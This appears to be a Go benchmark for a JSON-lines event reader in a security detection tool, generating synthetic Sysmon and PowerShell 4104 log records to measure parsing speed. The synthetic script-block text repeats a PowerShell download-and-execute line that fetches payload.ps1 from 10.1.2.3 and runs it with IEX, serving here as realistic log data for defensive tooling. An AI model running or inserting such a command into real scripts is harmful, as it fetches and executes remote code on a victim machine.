package jsonl

import (
	"context"
	"fmt"
	"math/rand"
	"strings"
	"testing"

	"github.com/riskhound/riskhound/internal/event"
)

// benchInput returns about size bytes of JSON lines: flat NXLog-style 4104
// and Sysmon events, and one {"Event":...} rendering in five.
func benchInput(size int) (string, int) {
	rng := rand.New(rand.NewSource(7))
	var b strings.Builder
	n := 0
	line := `$x = Invoke-WebRequest -Uri \"http://10.1.2.3/payload.ps1\" -UseBasicParsing && IEX $x.Content\r\n`
	for b.Len() < size {
		switch n % 5 {
		case 4:
			fmt.Fprintf(&b, `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-05-15T14:40:%02d.%06dZ"}},"EventRecordID":%d,"Correlation":null,"Execution":{"#attributes":{"ProcessID":2000,"ThreadID":3000}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws02.corp.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2024-05-15 14:40:00.000","ProcessGuid":"{aaaaaaaa-0000-0000-0000-000000000001}","ProcessId":6000,"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c \"echo a > b.txt\"","CurrentDirectory":"C:\\Users\\bob\\","User":"CORP\\bob","IntegrityLevel":"High","Hashes":"SHA256=00AA","ParentImage":"C:\\Windows\\explorer.exe","ParentCommandLine":"C:\\Windows\\Explorer.EXE"}}}`+"\n", rng.Intn(60), rng.Intn(1e6), n)
		default:
			fmt.Fprintf(&b, `{"@timestamp":"2020-10-22T08:29:%02d.%03dZ","SourceName":"Microsoft-Windows-PowerShell","ProviderGuid":"{A0C1853B-5C40-4B15-8766-3CF1C58F985A}","Channel":"Microsoft-Windows-PowerShell/Operational","Hostname":"WORKSTATION5.theshire.local","host":"wec.internal.cloudapp.net","EventID":4104,"RecordNumber":%d,"ExecutionProcessID":4444,"ThreadID":5555,"UserID":"S-1-5-21-1-2-3-1001","Keywords":-9223372036854775808,"Opcode":"On create calls","Task":2,"MessageNumber":"1","MessageTotal":"1","ScriptBlockText":"%s","ScriptBlockId":"{0a1b2c3d-0000-4000-8000-000000000001}","tags":["mordorDataset"]}`+"\n", rng.Intn(60), rng.Intn(1000), n, strings.Repeat(line, 1+rng.Intn(20)))
		}
		n++
	}
	return b.String(), n
}

func BenchmarkRead(b *testing.B) {
	text, n := benchInput(32 << 20)
	b.SetBytes(int64(len(text)))
	b.ReportAllocs()
	b.ResetTimer()
	for range b.N {
		count := 0
		err := Read(context.Background(), "bench", strings.NewReader(text),
			func(*event.Event) error { count++; return nil }, func(p event.Problem) { b.Fatal(p) })
		if err != nil || count != n {
			b.Fatalf("err=%v, %d events, want %d", err, count, n)
		}
	}
	b.ReportMetric(float64(n)*float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
